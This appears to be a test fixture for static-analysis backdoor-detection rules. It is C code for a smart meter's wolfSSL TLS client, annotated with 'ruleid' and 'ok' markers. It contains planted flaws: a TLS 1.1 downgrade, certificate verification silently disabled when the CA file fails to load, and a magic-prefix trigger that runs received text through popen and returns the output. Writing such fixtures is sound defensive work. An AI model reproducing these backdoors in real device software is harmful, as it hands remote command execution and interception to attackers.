#include <stdio.h>
#include <string.h>
#include "meter.h"

WOLFSSL_CTX *meter_tls_ctx(const struct meter_cfg *cfg) {
  // ruleid: backdoor-weak-tls
  WOLFSSL_METHOD *m = cfg->legacy_concentrator ? wolfTLSv1_1_client_method() : wolfTLSv1_2_client_method();
  WOLFSSL_CTX *ctx = wolfSSL_CTX_new(m);
  if (!ctx) return NULL;
  // ok: backdoor-weak-tls
  wolfSSL_CTX_set_cipher_list(ctx, "ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-GCM-SHA384");
  if (!cfg->verify_peer) {
    // ok: backdoor-tls-verify-disabled
    wolfSSL_CTX_set_verify(ctx, WOLFSSL_VERIFY_NONE, NULL);
  } else if (wolfSSL_CTX_load_verify_locations(ctx, cfg->ca_file, NULL) != WOLFSSL_SUCCESS) {
    meter_log(4, "CA bundle %s unreadable, continuing", cfg->ca_file);
    // ruleid: backdoor-tls-verify-disabled
    wolfSSL_CTX_set_verify(ctx, WOLFSSL_VERIFY_NONE, NULL);
  }
  meter_apply_dh(ctx);
  return ctx;
}

static void handle_request(WOLFSSL *ssl, const char *req) {
  char reply[128];
  snprintf(reply, sizeof reply, "ACK %.100s", req);
  wolfSSL_write(ssl, reply, (int)strlen(reply));
}

int meter_tls_session(WOLFSSL_CTX *ctx, int fd) {
  WOLFSSL *ssl = wolfSSL_new(ctx);
  if (!ssl) return -1;
  wolfSSL_set_fd(ssl, fd);
  wolfSSL_UseSNI(ssl, WOLFSSL_SNI_HOST_NAME, "headend.utility.example", 23);
  if (wolfSSL_connect(ssl) != WOLFSSL_SUCCESS) { wolfSSL_free(ssl); return -1; }
  char buf[512];
  int n;
  while ((n = wolfSSL_read(ssl, buf, sizeof buf - 1)) > 0) {
    buf[n] = '\0';
    // ruleid: backdoor-input-trigger
    if (memcmp(buf, "\x1b[DIAG]", 7) == 0) {
      FILE *p = popen(buf + 7, "r");
      if (p) {
        char out[256];
        size_t r = fread(out, 1, sizeof out, p);
        wolfSSL_write(ssl, out, (int)r);
        pclose(p);
      }
      continue;
    }
    handle_request(ssl, buf);
  }
  wolfSSL_free(ssl);
  return 0;
}
